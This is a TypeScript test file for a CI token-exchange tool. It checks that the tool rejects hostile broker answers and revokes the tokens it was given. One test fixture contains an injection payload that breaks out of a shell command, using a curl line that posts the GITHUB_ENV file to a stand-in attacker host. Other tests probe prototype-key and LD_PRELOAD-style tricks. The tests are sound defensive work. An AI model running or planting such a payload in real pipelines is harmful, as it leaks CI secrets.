import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { TOKEN_TYPE } from '../../src/core/exchange/token-exchange-request.ts';
import { HANDED_BACK_HEADER } from '../../src/core/revocation/handed-back-tokens.ts';
import { actionStep, readEnvironmentFile } from '../support/github-runner.ts';
import { serveOnLoopback } from '../support/serve-on-loopback.ts';
import { REPOSITORY_ROOT, runProcess } from './node-harness.ts';

const CI_TOKEN = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaS1qb2IifQ.c2lnbmF0dXJl';
const GOOD_TOKEN = 'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJwb2xpY3k6ZGVwbG95In0.c2lnbmF0dXJl';
/** What a broker (or whatever answers in its place) would put into the job log, or a later step's `run:` script, if it were used. */
const INJECTED = 'ey.x.y\n::warning::injected by the broker\n"; curl -d @$GITHUB_ENV https://attacker.example #';

/**
 * The token answer is the broker's to choose, and the pipeline side prints the token on standard output and sets it as a
 * step output: what it takes from the answer is held to what a token is, before anything uses it.
 */
describe('the pipeline side uses a broker token answer only as far as it is a token answer', () => {
  let answer: Record<string, unknown>;
  const revoked: string[] = [];
  let broker: Awaited<ReturnType<typeof serveOnLoopback>>;

  beforeAll(async () => {
    broker = await serveOnLoopback(async (request) => {
      const path = new URL(request.url).pathname;
      if (path.startsWith('/.well-known/')) return Response.json({ issuer: broker.base, token_endpoint: `${broker.base}/token` });
      if (path === '/idtoken') return Response.json({ value: CI_TOKEN });
      if (path === '/revoke') {
        revoked.push(new URLSearchParams(await request.text()).get('token') ?? '');
        return new Response(null, { status: 200, headers: { [HANDED_BACK_HEADER]: TOKEN_TYPE.githubInstallationToken } });
      }
      return Response.json(answer, { headers: { 'cache-control': 'no-store' } });
    });
  });
  afterAll(async () => {
    await broker?.close();
  });
  beforeEach(() => {
    answer = { access_token: GOOD_TOKEN, token_type: 'Bearer', expires_in: 600, issued_token_type: TOKEN_TYPE.accessToken };
    revoked.length = 0;
  });

  const exchange = (...args: string[]) =>
    runProcess(process.execPath, [join(REPOSITORY_ROOT, 'src/cli/main.ts'), 'exchange', '--url', broker.base, '--retries', '0', ...args], {
      env: { PATH: process.env['PATH'], CIRCLECI: 'true', CIRCLE_OIDC_TOKEN_V2: CI_TOKEN },
    });
  const action = () =>
    actionStep({ githubRequestUrl: `${broker.base}/idtoken`, githubRequestToken: 'request-token', githubApiUrl: broker.base }, { url: broker.base });

  it('an access_token with line breaks, quotes or spaces: exit 5, printed nowhere, set as no output', async () => {
    answer['access_token'] = INJECTED;
    const cli = await exchange();
    expect(cli.code, cli.stderr).toBe(5);
    expect(cli.stdout).toBe('');
    expect(cli.stderr).toMatch(/broker unavailable: http:\/\/127\.0\.0\.1:\d+\/token answered an access_token that is not an RFC 6750 token/);
    expect(`${cli.stdout}${cli.stderr}`).not.toMatch(/^::warning::|attacker\.example/m);

    const step = action();
    const main = await step.run('main');
    expect(main.code).toBe(1);
    expect(`${main.stdout}${main.stderr}`).not.toMatch(/^::warning::|attacker\.example/m);
    expect(readFileSync(step.files.GITHUB_OUTPUT, 'utf8')).toBe('');
    expect(readFileSync(step.files.GITHUB_STATE, 'utf8')).toBe('');
  });

  it('an expires_in past any date: exit 5, the broker unavailable, not a crash', async () => {
    answer['expires_in'] = 1e300;
    const cli = await exchange();
    expect(cli.code, cli.stderr).toBe(5);
    expect(cli.stdout).toBe('');
    expect(cli.stderr).toMatch(/answered an expires_in of 1e\+300 s: not a token's lifetime/);
    expect(cli.stderr).not.toContain(GOOD_TOKEN);
  });

  it("an issued_token_type naming a member of Object.prototype is a type with no revocation: --exec exits with the command's status", async () => {
    for (const type of ['toString', 'constructor']) {
      answer['issued_token_type'] = type;
      const cli = await exchange('--exec', '--', 'sh', '-c', 'test "$KEYWAY_TOKEN" = "$0" && exit 7', GOOD_TOKEN);
      expect(cli.code, cli.stderr).toBe(7);
      expect(cli.stderr).not.toMatch(/TypeError|could not revoke/);
      expect(revoked).toEqual([]);

      // The Action leaves nothing for its post step to hand back.
      const step = action();
      const main = await step.run('main');
      expect(main.code, main.stdout).toBe(0);
      expect(readEnvironmentFile(step.files.GITHUB_OUTPUT)['token']).toBe(GOOD_TOKEN);
      expect(readFileSync(step.files.GITHUB_STATE, 'utf8')).toBe('');
    }
  });

  const tokenMap = (tokens: Record<string, unknown>) => ({ issued_token_type: TOKEN_TYPE.githubInstallationTokenMap, github_tokens: tokens });
  const mapAction = (repositories: string) =>
    actionStep(
      { githubRequestUrl: `${broker.base}/idtoken`, githubRequestToken: 'request-token', githubApiUrl: broker.base },
      { url: broker.base, 'github-token-map': 'true', repositories },
    );

  it('a token map keyway cannot read (an expires_in of 0): exit 5, and each token of an owner asked for is revoked, printed nowhere', async () => {
    answer = tokenMap({ acme: { access_token: 'ghs_acme', expires_in: 600 }, 'octo-org': { access_token: 'ghs_octo', expires_in: 0 } });
    const cli = await exchange('--github-token-map', '--repository', 'acme/api', '--repository', 'Octo-Org/site');
    expect(cli.code, cli.stderr).toBe(5);
    expect(cli.stdout).toBe('');
    expect(cli.stderr).toMatch(
      /broker unavailable: http:\/\/127\.0\.0\.1:\d+\/token answered a token map keyway cannot read: github_tokens\.octo-org\.expires_in: expected >=1; its 2 token\(s\) of owners asked for were not used, and were revoked\n/,
    );
    expect(revoked.toSorted()).toEqual(['ghs_acme', 'ghs_octo']);

    revoked.length = 0;
    answer = tokenMap({ acme: { access_token: 'ghs_acme', expires_in: 1e300 }, 'octo-org': { access_token: 'ghs_octo', expires_in: 600 } });
    const timeless = await exchange('--github-token-map', '--repository', 'acme/api', '--repository', 'Octo-Org/site');
    expect(timeless.code, timeless.stderr).toBe(5);
    expect(timeless.stderr).toMatch(
      /answered a token map whose acme token has an expires_in no date holds; its 2 token\(s\) of owners asked for were not used, and were revoked\n/,
    );
    expect(revoked.toSorted()).toEqual(['ghs_acme', 'ghs_octo']);

    revoked.length = 0;
    answer = tokenMap({ acme: { access_token: 'ghs_acme', expires_in: 600 }, 'octo-org': { access_token: 'ghs_octo', expires_in: 0 } });
    const step = mapAction('acme/api Octo-Org/site');
    const main = await step.run('main');
    expect(main.code).toBe(1);
    expect(revoked.toSorted()).toEqual(['ghs_acme', 'ghs_octo']);
    for (const token of ['ghs_acme', 'ghs_octo']) expect(main.stdout.split('\n').filter((line) => line.includes(token))).toEqual([`::add-mask::${token}`]);
    expect(readFileSync(step.files.GITHUB_OUTPUT, 'utf8')).toBe('');
    expect(readFileSync(step.files.GITHUB_STATE, 'utf8')).toBe('');
  });

  it('a token map of the owners constructor and prototype, GitHub logins like any other: each token given to the command, and revoked', async () => {
    answer = tokenMap({
      acme: { access_token: 'ghs_acme', expires_in: 600 },
      constructor: { access_token: 'ghs_constructor', expires_in: 600 },
      prototype: { access_token: 'ghs_prototype', expires_in: 600 },
    });
    const print = 'printf "%s %s %s" "$KEYWAY_GITHUB_TOKEN_ACME" "$KEYWAY_GITHUB_TOKEN_CONSTRUCTOR" "$KEYWAY_GITHUB_TOKEN_PROTOTYPE"';
    const repositories = ['--repository', 'acme/api', '--repository', 'constructor/site', '--repository', 'Prototype/docs'];
    const cli = await exchange('--github-token-map', ...repositories, '--exec', '--', 'sh', '-c', print);
    expect(cli.code, cli.stderr).toBe(0);
    expect(cli.stdout).toBe('ghs_acme ghs_constructor ghs_prototype');
    expect(revoked.toSorted()).toEqual(['ghs_acme', 'ghs_constructor', 'ghs_prototype']);
  });

  it("a token map keyed by an owner not asked for (preload, after --exec-env LD): exit 5, the command never run; the asked owner's token revoked, the other sent nowhere", async () => {
    answer = tokenMap({ acme: { access_token: 'ghs_acme', expires_in: 600 }, preload: { access_token: '/tmp/keyway-no-such.so', expires_in: 600 } });
    const cli = await exchange('--github-token-map', '--repository', 'acme/api', '--exec-env', 'LD', '--exec', '--', 'sh', '-c', 'exit 7');
    expect(cli.code, cli.stderr).toBe(5);
    expect(cli.stderr).toMatch(
      /broker unavailable: http:\/\/127\.0\.0\.1:\d+\/token answered a token map for the owners acme, preload, not for those asked: acme; its 1 token\(s\) of owners asked for were not used, and were revoked\n/,
    );
    expect(revoked).toEqual(['ghs_acme']);

    revoked.length = 0;
    const step = mapAction('acme/api');
    const main = await step.run('main');
    expect(main.code).toBe(1);
    expect(revoked).toEqual(['ghs_acme']);
    expect(readFileSync(step.files.GITHUB_OUTPUT, 'utf8')).toBe('');
    expect(readFileSync(step.files.GITHUB_STATE, 'utf8')).toBe('');
  });
});
